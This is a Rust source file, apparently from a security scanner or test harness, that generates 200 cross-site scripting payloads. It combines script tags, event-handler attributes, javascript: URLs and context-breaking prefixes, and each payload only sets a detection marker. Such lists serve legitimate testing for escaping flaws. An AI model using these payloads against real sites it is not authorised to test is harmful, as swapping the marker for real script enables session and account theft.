//! Two hundred texts that would run as script on a page that forgot to escape them somewhere.

/// What tells that it ran.
pub const MARK: &str = "window.__ran=1";

/// The texts; each is at most 200 bytes long, so that no protocol cuts it.
pub fn payloads() -> Vec<String> {
    let bodies = [
        "<script>RUN</script>",
        "<img src=x onerror=RUN>",
        "<svg onload=RUN>",
        "<svg/onload=RUN>",
        "<body onload=RUN>",
        "<iframe srcdoc='<script>parent.RUN</script>'>",
        "<details open ontoggle=RUN>x</details>",
        "<input autofocus onfocus=RUN>",
        "<select autofocus onfocus=RUN>",
        "<video><source onerror=RUN></video>",
        "<audio src=x onerror=RUN>",
        "<marquee onstart=RUN>x</marquee>",
        "<object data='javascript:RUN'>",
        "<embed src='javascript:RUN'>",
        "<a href='javascript:RUN' autofocus>x</a>",
        "<math><mi xlink:href='javascript:RUN'>x</mi></math>",
        "<style>@import 'javascript:RUN';</style>",
        "<link rel=stylesheet href='javascript:RUN'>",
        "<meta http-equiv=refresh content='0;javascript:RUN'>",
        "<base href='javascript:RUN//'>",
        "<form action='javascript:RUN'><button autofocus>x",
        "<template><script>RUN</script></template>",
        "<div style='animation-name:x' onanimationstart=RUN>",
        "<noscript><p title='</noscript><img src=x onerror=RUN>'>",
        "{{constructor.constructor('RUN')()}}",
    ];
    let around = ["", "\">", "'>", "</title>", "</textarea>", "-->", "</script>", "\" onfocus=RUN autofocus x=\""];
    let all = around.iter().flat_map(|before| bodies.iter().map(move |body| format!("{before}{body}").replace("RUN", MARK)));
    let all: Vec<String> = all.collect();
    assert_eq!(all.len(), 200);
    assert!(all.iter().all(|text| text.len() <= 200));
    all
}
